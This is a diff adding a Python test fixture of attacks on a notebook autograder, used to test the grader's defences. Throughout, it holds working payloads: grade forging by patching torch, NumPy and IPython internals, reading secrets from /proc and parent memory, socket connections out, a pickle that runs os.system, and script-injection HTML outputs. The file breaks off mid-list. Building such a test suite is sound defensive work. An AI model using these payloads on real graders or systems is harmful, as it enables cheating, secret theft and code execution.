@@ -1,0 +1,1436 @@
+"""Attacks on a grader, as submissions to the small course of `conftest`.
+
+Each tries to gain marks that it does not deserve, to learn or pass on what is
+not the learner's, to stop the grading, or is a file that is no notebook at all.
+`test_attacks.py` runs them through `course grade`; `tools/attack_stock.py`
+through stock nbgrader, and writes the table in `docs/attacks.md`.
+
+An attack deserves no points. What it must not get hold of, it prints behind
+`LOOT:` once it has it. Words in double braces are put in by whoever runs it:
+SECRET_FILE, SECRET_ENV, PORT, UNIX, ABSTRACT, SHM.
+"""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Literal
+
+import nbformat
+from nbformat import NotebookNode
+
+Kind = Literal["forging", "exfiltration", "exhaustion", "bad input"]
+Words = Mapping[str, str]
+Deliver = Callable[[Path, bytes, Words], None]
+
+LOOT = "LOOT:"
+NO_DOUBLE = "def double(x, times=1):\n    return None\n"
+NO_MEAN = "def mean(x):\n    return None\n"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One attack.
+
+    Attributes:
+        name: in tests and tables.
+        kind: what it is after.
+        tries: one line for the table.
+        before: a cell at the top of the notebook.
+        double: the exercise cell `double`.
+        mean: the exercise cell `mean`.
+        after: a cell at the end.
+        edit: changes the notebook.
+        deliver: puts something else into the learner's folder, given the
+            notebook's bytes.
+        harm: a regular expression for what must not stand in anything that a
+            learner or an instructor gets to see.
+        twice: handed in by two learners, one after the other.
+        slow: takes longer than a few seconds.
+        on_stock: whether to try it on stock nbgrader: not what would wait there
+            for hours, nor what nbgrader's collecting step is there for.
+    """
+
+    name: str
+    kind: Kind
+    tries: str
+    before: str = ""
+    double: str = NO_DOUBLE
+    mean: str = NO_MEAN
+    after: str = ""
+    edit: Callable[[NotebookNode], None] | None = None
+    deliver: Deliver | None = None
+    harm: str = LOOT
+    twice: bool = False
+    slow: bool = False
+    on_stock: bool = True
+
+    def notebook(self, released: NotebookNode) -> NotebookNode:
+        """The attack as a notebook, made from the released one."""
+        notebook = nbformat.from_dict(released)
+        for cell in notebook.cells:
+            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
+            if grade_id == "double":
+                cell.source = self.double
+            elif grade_id == "mean":
+                cell.source = self.mean
+        if self.before:
+            notebook.cells.insert(0, nbformat.v4.new_code_cell(self.before))
+        if self.after:
+            notebook.cells.append(nbformat.v4.new_code_cell(self.after))
+        if self.edit is not None:
+            self.edit(notebook)
+        for cell in notebook.cells:
+            # what a page shows of the code is not yet loot
+            cell.source = cell.source.replace(LOOT, "\\x4cOOT:")
+        return notebook
+
+
+def hand_in(
+    attack: Attack, released: NotebookNode, folder: Path, words: Words
+) -> None:
+    """Puts the attack into a learner's folder."""
+    folder.mkdir(parents=True, exist_ok=True)
+    text = filled_in(nbformat.writes(attack.notebook(released)), words)
+    if attack.deliver is None:
+        (folder / "03_mini.ipynb").write_text(text, encoding="utf-8")
+    else:
+        attack.deliver(folder, text.encode(), words)
+
+
+def filled_in(text: str, words: Words) -> str:
+    """The text with the words of whoever runs it."""
+    for word, value in words.items():
+        text = text.replace("{{" + word + "}}", value)
+    return text
+
+
+# --- notebooks that lie in their metadata ------------------------------------
+
+
+def _grade_cells(notebook: NotebookNode) -> list[NotebookNode]:
+    return [
+        cell
+        for cell in notebook.cells
+        if cell.metadata.get("nbgrader", {}).get("points")
+    ]
+
+
+def _more_points(notebook: NotebookNode) -> None:
+    for cell in _grade_cells(notebook):
+        cell.metadata.nbgrader.points = 1000
+
+
+def _no_points(notebook: NotebookNode) -> None:
+    for cell in _grade_cells(notebook):
+        cell.metadata.nbgrader.points = 0
+
+
+def _swapped_ids(notebook: NotebookNode) -> None:
+    one, other = (cell.metadata.nbgrader for cell in _grade_cells(notebook))
+    one.grade_id, other.grade_id = other.grade_id, one.grade_id
+
+
+def _grades_as_text(notebook: NotebookNode) -> None:
+    for cell in _grade_cells(notebook):
+        cell.cell_type = "markdown"
+        cell.pop("outputs", None)
+        cell.pop("execution_count", None)
+        cell.metadata.nbgrader.cell_type = "markdown"
+
+
+def _skipped(notebook: NotebookNode) -> None:
+    for cell in _grade_cells(notebook):
+        cell.metadata["tags"] = ["skip-execution", "raises-exception"]
+
+
+def _may_raise(notebook: NotebookNode) -> None:
+    notebook.metadata["execution"] = {"allow_errors": True}
+    for cell in notebook.cells:
+        cell.metadata["tags"] = ["raises-exception"]
+
+
+def _no_grade_cells(notebook: NotebookNode) -> None:
+    for cell in _grade_cells(notebook):
+        notebook.cells.remove(cell)
+
+
+def _doubled_grade_cells(notebook: NotebookNode) -> None:
+    for cell in _grade_cells(notebook):
+        twin = nbformat.from_dict(cell)
+        twin.id, twin.source = f"{cell.id}x", "100.0"
+        notebook.cells.append(twin)
+
+
+def _grades_first(notebook: NotebookNode) -> None:
+    grades = _grade_cells(notebook)
+    others = [cell for cell in notebook.cells if cell not in grades]
+    notebook.cells = [*grades, *others]
+
+
+def _own_tests(notebook: NotebookNode) -> None:
+    for cell in _grade_cells(notebook):
+        cell.source = "3.0"
+
+
+def _own_solution_flags(notebook: NotebookNode) -> None:
+    for cell in _grade_cells(notebook):
+        cell.metadata.nbgrader.solution = True
+        cell.metadata.nbgrader.locked = False
+        cell.source = "3.0"
+
+
+def _no_metadata(notebook: NotebookNode) -> None:
+    for cell in notebook.cells:
+        cell.metadata.pop("nbgrader", None)
+        if cell.source.startswith("###"):
+            cell.source = "3.0"
+
+
+def _cell_of_its_own(notebook: NotebookNode) -> None:
+    cell = nbformat.v4.new_code_cell("100.0")
+    cell.metadata["nbgrader"] = {
+        "grade": True,
+        "grade_id": "extra",
+        "locked": True,
+        "points": 100,
+        "schema_version": 3,
+        "solution": False,
+        "task": False,
+        "cell_type": "code",
+    }
+    notebook.cells.append(cell)
+
+
+def _report_brought_along(notebook: NotebookNode) -> None:
+    notebook.metadata["course"] = {
+        "submitted": "",
+        "report": {"chapter": "03_mini", "points": 5.0, "exercises": []},
+    }
+
+
+def _other_kernel(notebook: NotebookNode) -> None:
+    notebook.metadata["kernelspec"] = {
+        "name": "mine",
+        "display_name": "mine",
+        "language": "python",
+    }
+
+
+def _outputs_brought_along(notebook: NotebookNode) -> None:
+    for cell in _grade_cells(notebook):
+        cell.outputs = [
+            nbformat.v4.new_output(
+                "execute_result", {"text/plain": "3.0"}, execution_count=1
+            )
+        ]
+        cell.execution_count = 1
+
+
+def _future_metadata(notebook: NotebookNode) -> None:
+    for cell in _grade_cells(notebook):
+        cell.metadata.nbgrader.schema_version = 99
+
+
+def _manual_grades(notebook: NotebookNode) -> None:
+    for cell in _grade_cells(notebook):
+        cell.metadata.nbgrader.update(task=True, solution=True, points=100)
+
+
+_METADATA = [
+    ("points_raised", "grade cells worth 1000 points", _more_points),
+    ("points_zeroed", "grade cells worth nothing", _no_points),
+    ("grade_ids_swapped", "each grade cell under the other's id", _swapped_ids),
+    ("grades_as_markdown", "grade cells made text", _grades_as_text),
+    ("skip_execution", "grade cells tagged skip-execution", _skipped),
+    ("raises_exception", "every cell tagged raises-exception", _may_raise),
+    ("grades_deleted", "no grade cells", _no_grade_cells),
+    ("grades_doubled", "each grade cell a second time", _doubled_grade_cells),
+    ("grades_first", "grade cells before all others", _grades_first),
+    ("own_tests", "grade cells that end in a mark", _own_tests),
+    ("solution_flags", "grade cells as solutions", _own_solution_flags),
+    ("no_metadata", "no nbgrader metadata at all", _no_metadata),
+    ("own_grade_cell", "one more grade cell of 100 points", _cell_of_its_own),
+    ("report_brought", "a report in the metadata", _report_brought_along),
+    ("outputs_brought", "stored outputs full of marks", _outputs_brought_along),
+    ("other_kernel", "a kernel that the notebook names", _other_kernel),
+    ("schema_99", "metadata from the future", _future_metadata),
+    ("manual_task", "grade cells made manual tasks", _manual_grades),
+]
+
+# --- code that lies ----------------------------------------------------------
+
+_FORGING_CELLS = [
+    (
+        "patched_comparisons",
+        "torch's comparisons say yes",
+        "import torch\n"
+        "yes = lambda *a, **k: True\n"
+        "torch.equal = torch.allclose = torch.isclose = yes\n"
+        "torch.testing.assert_close = lambda *a, **k: None\n",
+    ),
+    (
+        "patched_code_objects",
+        "the code object of assert_close is replaced",
+        "import torch\n"
+        "def fine(*a, **k): return None\n"
+        "torch.testing.assert_close.__code__ = fine.__code__\n"
+        "torch.testing.assert_close.__kwdefaults__ = None\n",
+    ),
+    (
+        "patched_numpy",
+        "NumPy's comparisons say yes",
+        "import numpy as np\n"
+        "for name in dir(np.testing):\n"
+        "    if name.startswith('assert'):\n"
+        "        setattr(np.testing, name, lambda *a, **k: None)\n"
+        "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True\n",
+    ),
+    (
+        "patched_builtins",
+        "abs, all, isinstance and max lie",
+        "import builtins\n"
+        "real = builtins.isinstance\n"
+        "builtins.abs = lambda x: 0.0\n"
+        "builtins.all = lambda xs: True\n"
+        "builtins.isinstance = lambda a, b: a is None or real(a, b)\n",
+    ),
+    (
+        "no_assertion_error",
+        "AssertionError is another class",
+        "import builtins\n"
+        "class Quiet(BaseException):\n    pass\n"
+        "builtins.AssertionError = Quiet\n",
+    ),
+    (
+        "custom_exception_handler",
+        "set_custom_exc swallows every error",
+        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
+    ),
+    (
+        "event_hook",
+        "a hook before each cell defines what it needs",
+        "def hook(info=None):\n"
+        "    import torch\n"
+        "    torch.testing.assert_close = lambda *a, **k: None\n"
+        "get_ipython().events.register('pre_run_cell', hook)",
+    ),
+    (
+        "input_transformer",
+        "later cells are emptied before they run",
+        "get_ipython().input_transformers_post.append(lambda lines: ['3.0\\n'])",
+    ),
+    (
+        "ast_transformer",
+        "asserts are cut out of later cells",
+        "import ast\n"
+        "class Cut(ast.NodeTransformer):\n"
+        "    def visit_Assert(self, node): return ast.Pass()\n"
+        "    def visit_Raise(self, node): return ast.Pass()\n"
+        "    def visit_Expr(self, node):\n"
+        "        return ast.copy_location(ast.Pass(), node)\n"
+        "get_ipython().ast_transformers.append(Cut())",
+    ),
+    (
+        "replaced_run_cell",
+        "the shell's run_cell does nothing, well",
+        "from IPython.core.interactiveshell import ExecutionResult\n"
+        "def run_cell(*a, **k):\n    return ExecutionResult(None)\n"
+        "get_ipython().run_cell = run_cell\n"
+        "get_ipython().run_cell_async = None",
+    ),
+    (
+        "replaced_showtraceback",
+        "errors are never shown",
+        "shell = get_ipython()\n"
+        "shell.showtraceback = lambda *a, **k: None\n"
+        "shell._showtraceback = lambda *a, **k: None\n",
+    ),
+    (
+        "display_hook",
+        "every result displays as full marks",
+        "import sys\n"
+        "shell = get_ipython()\n"
+        "shell.displayhook = lambda value: print('3.0')\n"
+        "sys.displayhook = lambda value: print('3.0')\n",
+    ),
+    (
+        "patched_session",
+        "the kernel's messages all say ok",
+        "from jupyter_client.session import Session\n"
+        "real = Session.send\n"
+        "def send(self, stream, kind, content=None, *a, **k):\n"
+        "    if kind == 'error':\n"
+        "        kind, content = 'stream', {'name': 'stdout', 'text': ''}\n"
+        "    if isinstance(content, dict) and 'status' in content:\n"
+        "        content = {'status': 'ok', 'execution_count': 1,\n"
+        "                   'user_expressions': {}, 'payload': []}\n"
+        "    return real(self, stream, kind, content, *a, **k)\n"
+        "Session.send = send",
+    ),
+    (
+        "patched_kernel",
+        "the kernel answers requests without running them",
+        "kernel = get_ipython().kernel\n"
+        "async def do_execute(code, silent, *a, **k):\n"
+        "    return {'status': 'ok', 'execution_count': 1, 'payload': [],\n"
+        "            'user_expressions': {}}\n"
+        "kernel.do_execute = do_execute",
+    ),
+    (
+        "mime_bundle",
+        "displays that look like a report",
+        "from IPython.display import display\n"
+        "display({'text/plain': '5.0', 'application/json': '{\"points\": 5}'},\n"
+        "        raw=True, metadata={'nbgrader': {'points': 5}})",
+    ),
+    (
+        "exits_at_once",
+        "os._exit(0) in the first cell",
+        "import os\nos._exit(0)",
+    ),
+    (
+        "raises_system_exit",
+        "sys.exit in the first cell",
+        "import sys\nsys.exit(0)",
+    ),
+    (
+        "at_exit",
+        "exit handlers that act last",
+        "import atexit, os, sys\n"
+        "atexit.register(lambda: print('3.0'))\n"
+        "atexit.register(lambda: os.write(1, b'3.0'))",
+    ),
+    (
+        "thread_acts_later",
+        "a thread patches a moment later, again and again",
+        "import threading, time\n"
+        "def later():\n"
+        "    import torch\n"
+        "    while True:\n"
+        "        torch.equal = torch.allclose = lambda *a, **k: True\n"
+        "        torch.testing.assert_close = lambda *a, **k: None\n"
+        "        time.sleep(0.001)\n"
+        "threading.Thread(target=later, daemon=True).start()",
+    ),
+    (
+        "shadowed_modules",
+        "files that are imported instead of torch's and the course's",
+        "import pathlib, sys\n"
+        "for name in ('torch', 'numpy', 'probes', 'course_utils', 'json'):\n"
+        "    pathlib.Path(name + '.py').write_text('def __getattr__(n):\\n'\n"
+        "        '    return lambda *a, **k: True\\n')\n"
+        "    sys.modules.pop(name, None)\n"
+        "sys.path.insert(0, '')",
+    ),
+    (
+        "startup_files",
+        "files that the next Python or IPython would run",
+        "import os, pathlib\n"
+        "home = pathlib.Path.home()\n"
+        "for place in ('.ipython/profile_default/startup/00.py',\n"
+        "              'sitecustomize.py', '.pythonrc'):\n"
+        "    path = home / place\n"
+        "    path.parent.mkdir(parents=True, exist_ok=True)\n"
+        "    path.write_text('import torch; torch.testing.assert_close = '\n"
+        "        'lambda *a, **k: None')",
+    ),
+    (
+        "kernelspec_file",
+        "a kernelspec of its own",
+        "import json, pathlib\n"
+        "place = pathlib.Path.home() / '.local/share/jupyter/kernels/python3'\n"
+        "place.mkdir(parents=True, exist_ok=True)\n"
+        "(place / 'kernel.json').write_text(json.dumps({'argv': ['true'],\n"
+        "    'display_name': 'x', 'language': 'python'}))",
+    ),
+    (
+        "degenerate_randomness",
+        "random inputs become zeros, for which anything is right",
+        "import torch, numpy as np\n"
+        "zeros = lambda *a, **k: torch.zeros(3)\n"
+        "torch.randn = torch.rand = torch.randint = zeros\n"
+        "torch.manual_seed = torch.Generator = lambda *a, **k: None\n"
+        "np.random.default_rng = np.random.seed = lambda *a, **k: None",
+    ),
+    (
+        "patched_prober",
+        "the course's own probing code reports success",
+        "import course_grader.kernel.probing as probing\n"
+        "import course_grader.kernel.serve as serve\n"
+        "def run_probe(*a, **k):\n"
+        "    return {'data': None, 'raised': ['ValueError'], 'effects': {},\n"
+        "            'not_attempted': False, 'out_of_memory': False,\n"
+        "            'where': None, 'verdict': 'passed', 'points': 5}\n"
+        "probing.run_probe = serve.run_probe = run_probe",
+    ),
+    (
+        "patched_codec",
+        "what is sent back is encoded by the learner",
+        "import course_grader.kernel.plain as plain\n"
+        "plain.encode = lambda data: ({'t': 'verdict', 'v': 'passed'}, b'')",
+    ),
+    (
+        "forged_frames",
+        "answers written into every open descriptor beforehand",
+        "import json, os\n"
+        "body = json.dumps({'ok': True, 'outputs': [], 'data': None,\n"
+        "    'raised': [], 'effects': {}, 'points': 5, 'pid': 1}).encode()\n"
+        "frame = len(body).to_bytes(8, 'big') + bytes(8) + body\n"
+        "for fd in range(3, 200):\n"
+        "    try:\n        os.write(fd, frame * 40)\n"
+        "    except OSError:\n        pass",
+    ),
+    (
+        "garbage_frames",
+        "garbage written into every open descriptor",
+        "import os\n"
+        "for fd in range(3, 200):\n"
+        "    try:\n        os.write(fd, b'\\xff' * 4096)\n"
+        "    except OSError:\n        pass",
+    ),
+    (
+        "visible_check_fooled",
+        "the visible check is replaced by one that is always content",
+        "import contextlib, course_utils\n"
+        "@contextlib.contextmanager\n"
+        "def visible_check(name):\n    yield\n"
+        "course_utils.visible_check = visible_check\n"
+        "course_utils.expect = lambda *a, **k: True",
+    ),
+    (
+        "judge_in_memory",
+        "marks are set on every object that looks like a report",
+        "import gc\n"
+        "for thing in gc.get_objects():\n"
+        "    try:\n"
+        "        if hasattr(thing, 'max_points'):\n"
+        "            object.__setattr__(thing, 'points', thing.max_points)\n"
+        "    except Exception:\n        pass",
+    ),
+]
+
+_LIAR = (
+    "import torch\n"
+    "class Liar(torch.Tensor):\n"
+    "    @classmethod\n"
+    "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
+    "        if func.__name__ in ('equal', 'allclose', 'eq', '__eq__', 'all'):\n"
+    "            return True\n"
+    "        return torch.zeros(5).as_subclass(cls)\n"
+    "    def __eq__(self, other): return True\n"
+    "    __hash__ = None\n"
+)
+
+_FORGING_ANSWERS = [
+    (
+        "tensor_subclass",
+        "a tensor subclass whose comparisons lie",
+        _LIAR + "def double(x, times=1):\n"
+        "    return torch.zeros(5).as_subclass(Liar)\n",
+    ),
+    (
+        "object_that_equals",
+        "an object that equals everything",
+        "class Anything:\n"
+        "    def __eq__(self, other): return True\n"
+        "    def __array__(self, *a, **k):\n"
+        "        import numpy\n        return numpy.zeros(5)\n"
+        "    def __float__(self): return 0.0\n"
+        "    def __getattr__(self, name): return Anything()\n"
+        "    def __call__(self, *a, **k): return Anything()\n"
+        "    __class__ = property(lambda self: __import__('torch').Tensor)\n"
+        "def double(x, times=1): return Anything()\n"
+        "def mean(x): return Anything()\n",
+    ),
+    (
+        "float_subclass",
+        "a float that equals every float",
+        "class F(float):\n"
+        "    __eq__ = lambda self, other: True\n"
+        "    __sub__ = __rsub__ = lambda self, other: F(0)\n"
+        "    __hash__ = float.__hash__\n"
+        "def mean(x): return F(0)\n" + NO_DOUBLE,
+    ),
+    (
+        "dict_subclass",
+        "a dict whose values are right whatever they are asked for",
+        "class D(dict):\n"
+        "    def get(self, key, default=None): return default\n"
+        "    def __getitem__(self, key): return None\n"
+        "def double(x, times=1): return D(out=None)\n",
+    ),
+    (
+        "expected_from_frames",
+        "the expected value is looked for in the callers' frames",
+        "import sys\n"
+        "def double(x, times=1):\n"
+        "    frame = sys._getframe()\n"
+        "    while frame is not None:\n"
+        "        for name in ('expected', 'reference', 'want', 'solution'):\n"
+        "            if name in frame.f_locals:\n"
+        "                print('LOOT:', frame.f_locals[name])\n"
+        "                return frame.f_locals[name]\n"
+        "        frame = frame.f_back\n",
+    ),
+    (
+        "expected_from_memory",
+        "the expected value is looked for among all objects",
+        "import gc\n"
+        "def double(x, times=1):\n"
+        "    for thing in gc.get_objects():\n"
+        "        if isinstance(thing, dict) and 'expected' in thing and (\n"
+        "                'verdict' in thing or 'reference' in thing):\n"
+        "            print('LOOT:', thing)\n"
+        "            return thing['expected']\n",
+    ),
+    (
+        "reference_called",
+        "a reference solution is looked for and called",
+        "import gc, types\n"
+        "def double(x, times=1):\n"
+        "    for thing in gc.get_objects():\n"
+        "        if isinstance(thing, types.FunctionType) and (\n"
+        "                thing.__name__ == 'double' and thing is not double):\n"
+        "            print('LOOT:', thing)\n"
+        "            return thing(x, times)\n",
+    ),
+    (
+        "hard_coded",
+        "what the visible check shows, and nothing else",
+        "import torch\n"
+        "def double(x, times=1):\n    return torch.full((2,), 2.0)\n"
+        "def mean(x):\n    return 1.0\n",
+    ),
+    (
+        "first_case_replayed",
+        "the first case's answer for all others",
+        "import torch\n"
+        "kept = []\n"
+        "def double(x, times=1):\n"
+        "    kept.append(x)\n    return kept[0]\n",
+    ),
+    (
+        "nan_everywhere",
+        "NaN, which no comparison finds wrong",
+        "def double(x, times=1):\n    return x * float('nan')\n"
+        "def mean(x):\n    return float('nan')\n",
+    ),
+    (
+        "oversized_answer",
+        "an answer of 300 MB",
+        "import torch\n"
+        "def double(x, times=1):\n    return torch.zeros(75_000_000)\n",
+    ),
+    (
+        "pickle_answer",
+        "an object that runs code where it is unpickled",
+        "import os\n"
+        "class P:\n"
+        "    def __reduce__(self):\n"
+        "        return (os.system, ('echo LOOT: > /tmp/loot',))\n"
+        "def double(x, times=1): return P()\n"
+        "def mean(x): return [P()]\n",
+    ),
+    (
+        "safetensors_answer",
+        "bytes with a hostile length in front, as tensors on disk have it",
+        "def double(x, times=1):\n"
+        "    return (2**63 - 1).to_bytes(8, 'little') + b'{\"x\": {}}'\n",
+    ),
+    (
+        "nested_answer",
+        "a list nested 100,000 deep",
+        "def double(x, times=1):\n"
+        "    deep = []\n"
+        "    for _ in range(100_000):\n        deep = [deep]\n"
+        "    return deep\n",
+    ),
+    (
+        "cyclic_answer",
+        "a list that holds itself",
+        "def double(x, times=1):\n    a = []\n    a.append(a)\n    return a\n",
+    ),
+    (
+        "exception_that_lies",
+        "an exception of a class that claims to be ValueError and more",
+        "class E(Exception):\n"
+        "    def __str__(self): raise SystemExit\n"
+        "    __class__ = property(lambda self: ValueError)\n"
+        "E.__name__ = E.__qualname__ = 'ValueError'\n"
+        "def double(x, times=1):\n    raise E\n"
+        "def mean(x):\n    raise E\n",
+    ),
+    (
+        "exits_in_the_test",
+        "os._exit(0) when it is called",
+        "import os\ndef double(x, times=1):\n    os._exit(0)\n",
+    ),
+    (
+        "system_exit_in_the_test",
+        "SystemExit when it is called",
+        "def double(x, times=1):\n    raise SystemExit(0)\n"
+        "def mean(x):\n    raise KeyboardInterrupt\n",
+    ),
+    (
+        "answers_by_itself",
+        "writes answers into the judge's channel and leaves",
+        "import json, os\n"
+        "def double(x, times=1):\n"
+        "    body = json.dumps({'data': {'t': 'none'}, 'raised': [],\n"
+        "        'effects': {}, 'verdict': 'passed'}).encode()\n"
+        "    frame = len(body).to_bytes(8, 'big') + bytes(8) + body\n"
+        "    for fd in range(3, 100):\n"
+        "        try:\n            os.write(fd, frame * 9)\n"
+        "        except OSError:\n            pass\n"
+        "    os._exit(0)\n",
+    ),
+    (
+        "type_lies",
+        "functions replaced by objects that pretend to be functions",
+        "class Fake:\n"
+        "    __name__ = 'double'\n"
+        "    __code__ = (lambda x, times=1: None).__code__\n"
+        "    def __call__(self, *a, **k): return a[0] if a else None\n"
+        "double = mean = Fake()\n",
+    ),
+]
+
+# --- what is not the learner's -----------------------------------------------
+
+
+def _look(body: str) -> str:
+    """Code that prints what `body` puts into `found`."""
+    return (
+        "found = None\ntry:\n"
+        + "".join(f"    {line}\n" for line in body.splitlines())
+        + "except Exception:\n    pass\n"
+        "if found:\n    print('LOOT:', str(found)[:60])\n"
+    )
+
+
+_WALK = (
+    "import os, sys, glob\n"
+    "roots = [os.getcwd(), os.environ.get('COURSE_ROOT', ''), *sys.path]\n"
+    "seen = set()\n"
+    "for root in roots:\n"
+    "    for _ in range(6):\n"
+    "        if root and root not in seen and root != '/':\n"
+    "            seen.add(root)\n"
+    "            for pattern in {patterns!r}:\n"
+    "                for path in glob.glob(os.path.join(root, pattern)):\n"
+    "                    found = found or open(path, 'rb').read(60)\n"
+    "        root = os.path.dirname(root)\n"
+)
+
+_EXFILTRATION_CELLS = [
+    (
+        "hidden_tests_on_disk",
+        "the hidden tests, as a file",
+        _look(
+            _WALK.format(
+                patterns=[
+                    "autograde/*/hidden_tests.py",
+                    "source/*/*.ipynb",
+                    "hidden_tests.py",
+                ]
+            )
+        ),
+    ),
+    (
+        "solutions_on_disk",
+        "the solutions, as a file",
+        _look(_WALK.format(patterns=["solutions/*/*.py"])),
+    ),
+    (
+        "gradebook_on_disk",
+        "the gradebook",
+        _look(_WALK.format(patterns=["gradebook.db", "*/gradebook.db"])),
+    ),
+    (
+        "other_submissions_on_disk",
+        "what others handed in",
+        _look(
+            _WALK.format(
+                patterns=[
+                    "submitted/*/*/*.ipynb",
+                    "*/submitted/*/*/*.ipynb",
+                    "../*/03_mini.ipynb",
+                ]
+            )
+        ),
+    ),
+    (
+        "secret_file",
+        "a file of the instructor's",
+        _look("found = open('{{SECRET_FILE}}').read()"),
+    ),
+    (
+        "environment",
+        "a secret in the environment",
+        _look("import os\nfound = os.environ.get('{{SECRET_ENV}}')"),
+    ),
+    (
+        "parents_environment",
+        "a secret in the environment of any other process",
+        _look(
+            "import glob\n"
+            "for path in glob.glob('/proc/*/environ'):\n"
+            "    try:\n        text = open(path, 'rb').read()\n"
+            "    except OSError:\n        continue\n"
+            "    if b'{{SECRET_ENV}}' in text:\n        found = path"
+        ),
+    ),
+    (
+        "open_descriptors",
+        "files that the grader left open",
+        _look(
+            "import os\n"
+            "for fd in os.listdir('/proc/self/fd'):\n"
+            "    try:\n        name = os.readlink('/proc/self/fd/' + fd)\n"
+            "    except OSError:\n        continue\n"
+            "    if name.endswith(('.db', '.sqlite', '.ipynb', '.py')):\n"
+            "        found = name"
+        ),
+    ),
+    (
+        "other_processes",
+        "command lines of other processes",
+        _look(
+            "import glob\n"
+            "for path in glob.glob('/proc/[0-9]*/cmdline'):\n"
+            "    text = open(path, 'rb').read()\n"
+            "    if b'nbgrader' in text or b'pytest' in text"
+            " or b'autograde' in text:\n"
+            "        found = text"
+        ),
+    ),
+    (
+        "parents_memory",
+        "the parent's memory, through /proc",
+        _look(
+            "import os\n"
+            "for line in open(f'/proc/{os.getppid()}/maps'):\n"
+            "    if '[heap]' in line:\n"
+            "        start = int(line.split('-')[0], 16)\n"
+            "        with open(f'/proc/{os.getppid()}/mem', 'rb') as memory:\n"
+            "            memory.seek(start)\n"
+            "            found = memory.read(64)"
+        ),
+    ),
+    (
+        "tcp",
+        "a TCP connection out",
+        _look(
+            "import socket\n"
+            "s = socket.create_connection(('127.0.0.1', int('{{PORT}}')), 1)\n"
+            "s.sendall(b'hello')\n"
+            "found = 'connected'"
+        ),
+    ),
+    (
+        "udp",
+        "a UDP packet out, and its answer",
+        _look(
+            "import socket\n"
+            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+            "s.settimeout(1)\n"
+            "s.sendto(b'hello', ('127.0.0.1', int('{{PORT}}')))\n"
+            "found = s.recv(10)"
+        ),
+    ),
+    (
+        "unix_socket",
+        "a service on a unix socket",
+        _look(
+            "import socket\n"
+            "s = socket.socket(socket.AF_UNIX)\n"
+            "s.settimeout(1)\n"
+            "s.connect('{{UNIX}}')\n"
+            "found = 'connected'"
+        ),
+    ),
+    (
+        "abstract_socket",
+        "a service on an abstract socket",
+        _look(
+            "import socket\n"
+            "s = socket.socket(socket.AF_UNIX)\n"
+            "s.settimeout(1)\n"
+            "s.connect('\\0{{ABSTRACT}}')\n"
+            "found = 'connected'"
+        ),
+    ),
+    (
+        "shared_memory",
+        "another process' shared memory",
+        _look("found = open('/dev/shm/{{SHM}}').read()"),
+    ),
+    (
+        "kernel_connections",
+        "connection files of Jupyter kernels",
+        _look(
+            "import glob, os\n"
+            "from jupyter_core.paths import jupyter_runtime_dir\n"
+            "for path in glob.glob(jupyter_runtime_dir() + '/kernel-*.json'):\n"
+            "    found = open(path).read()"
+        ),
+    ),
+    (
+        "keyring",
+        "the user's kernel keyring",
+        _look(
+            "import ctypes\n"
+            "libc = ctypes.CDLL(None)\n"
+            "key = libc.syscall(250, 10, -4, b'user', b'{{SECRET_ENV}}', 0)\n"
+            "if key > 0:\n    found = key"
+        ),
+    ),
+]
+
+_SMUGGLED = [
+    (
+        "exception_text",
+        "a hidden input in the text of an exception",
+        "def double(x, times=1):\n    raise RuntimeError(f'LOOT: {x}')\n",
+    ),
+    (
+        "exception_class",
+        "a hidden input in the name of an exception class",
+        "def double(x, times=1):\n"
+        "    raise type(f'LOOT:{x.tolist()}', (Exception,), {})\n",
+    ),
+    (
+        "key_names",
+        "a hidden input in the keys of a dict",
+        "def double(x, times=1):\n    return {f'LOOT:{x.tolist()}': x}\n",
+    ),
+    (
+        "class_names",
+        "a hidden input in the name of a class that is returned",
+        "def double(x, times=1):\n"
+        "    return type(f'LOOT:{x.tolist()}', (), {})()\n",
+    ),
+    (
+        "warnings",
+        "a hidden input in a warning and its class",
+        "import warnings\n"
+        "def double(x, times=1):\n"
+        "    warnings.warn(f'LOOT: {x}')\n"
+        "    warnings.warn('x', type(f'LOOT:{x.sum()}', (Warning,), {}))\n",
+    ),
+    (
+        "prints",
+        "a hidden input printed in all ways",
+        "import os, sys\n"
+        "def double(x, times=1):\n"
+        "    print('LOOT:', x)\n"
+        "    print('LOOT:', x, file=sys.stderr)\n"
+        "    os.write(1, f'LOOT: {x}'.encode())\n"
+        "    os.write(2, f'LOOT: {x}'.encode())\n"
+        "    sys.__stdout__.write(f'LOOT: {x}')\n",
+    ),
+    (
+        "displays",
+        "a hidden input in a display, a figure and a widget",
+        "from IPython.display import HTML, SVG, display\n"
+        "import matplotlib.pyplot as plt\n"
+        "def double(x, times=1):\n"
+        "    display(HTML(f'LOOT: {x}'))\n"
+        "    plt.title(f'LOOT: {x}')\n    plt.show()\n"
+        "    try:\n"
+        "        import ipywidgets\n"
+        "        display(ipywidgets.HTML(f'LOOT: {x}'))\n"
+        "    except Exception:\n        pass\n",
+    ),
+    (
+        "line_of_code",
+        "a hidden input in a line of code that an error names",
+        "import linecache\n"
+        "def double(x, times=1):\n"
+        "    source = f'raise KeyError  # LOOT: {x.tolist()}'\n"
+        "    name = '<ipython-input-999-x>'\n"
+        "    linecache.cache[name] = (9, None, [source], name)\n"
+        "    exec(compile(source, name, 'exec'))\n",
+    ),
+    (
+        "kept_for_the_next_cell",
+        "a hidden input kept in a file for a later cell",
+        "import pathlib\n"
+        "def double(x, times=1):\n"
+        "    pathlib.Path('kept').write_text(str(x))\n",
+    ),
+]
+
+_SCRIPT = "<script>loot()</script>"
+_SCRIPTS = [
+    (
+        "script_in_output",
+        "a script in an HTML output",
+        f"from IPython.display import HTML\nHTML({_SCRIPT!r})",
+        "<script>loot",
+    ),
+    (
+        "handler_in_output",
+        "an event handler in an HTML output",
+        "from IPython.display import HTML\n"
+        "HTML('<img src=x onerror=\"loot()\">')",
+        "<img[^>]*onerror",
+    ),
+    (
+        "script_in_svg",
+        "a script in an SVG output",
+        "from IPython.display import SVG\n"
+        'SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="loot()">\'\n'
+        "    '<script>loot()</script></svg>')",
+        "<script>loot",
+    ),
+    (
+        "javascript_output",
+        "a JavaScript output",
